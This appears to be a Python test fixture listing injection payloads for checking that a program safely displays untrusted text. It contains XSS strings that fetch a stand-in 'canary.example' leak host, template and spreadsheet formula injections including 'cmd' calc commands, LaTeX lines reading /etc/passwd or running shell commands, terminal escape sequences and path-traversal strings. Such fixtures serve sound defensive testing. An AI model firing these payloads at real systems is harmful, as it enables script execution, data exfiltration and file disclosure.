"""Texts that attack the program that shows them, for use as queries, documents, ids and names."""

LEAK = "http://canary.example/leak"  # every host name resolves to the test's own server
RUN = f"console.error('ran');alert('ran');fetch('{LEAK}')"

HTML = (
    f"<script>{RUN}</script>",
    f'"><img src="{LEAK}" onerror="{RUN}">',
    f"'><svg onload=\"{RUN}\"><style>@import '{LEAK}'</style>",
    f"</title></style></textarea></script><script>{RUN}</script>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={LEAK}">',
    f'<link rel="stylesheet" href="{LEAK}"><base href="{LEAK}">',
    f'" onfocus="{RUN}" autofocus tabindex=1 x="',
    f"<!-- --> --!><script>{RUN}</script> ]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}",
)
MARKDOWN = (
    f"![x]({LEAK}) [x](javascript:{RUN}) <{LEAK}>",
    f"x\n\n<script>{RUN}</script>\n\n| a |\n|---|\n| ![x]({LEAK}) |",
    f"][x]\n\n[x]: javascript:{RUN}\n\n# heading",
    f"`</code><script>{RUN}</script>`",
)
TEMPLATES = ("{{ 7 * 7 }}{% raw %}{{ self }}", "${7*7}#{7*7}<%= 7*7 %>")
FORMULAS = (
    f'=HYPERLINK("{LEAK}","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
LATEX = (
    r"\input{/etc/passwd}",
    r"\immediate\write18{touch x}",
    r"} \end{tabular} \catcode`\%=12 ^^5cinput{x} \csname input\endcsname $x_1^2$ ~ # &",
    "^^5c^^69nput x%\n\\input{x}",
)
TERMINAL = (
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x9b31m\x90q\x9c",
    "\x1b]8;;http://canary.example\x1b\\link\x1b]8;;\x1b\\",
    "line\r\nother\x0b\x0c\x85\u2028\u2029end",
    "\u202etxet\u202c \u2066isolate\u2069 \u200f\ufeff",
    "bell\x07 back\x08\x7f",
)
PATHS = ("../../outside", "/outside", "..", "~/outside", "C:\\outside", "a/b", "..\\..\\outside", "%2e%2e%2foutside")
ALL = HTML + MARKDOWN + TEMPLATES + FORMULAS + LATEX + TERMINAL + PATHS
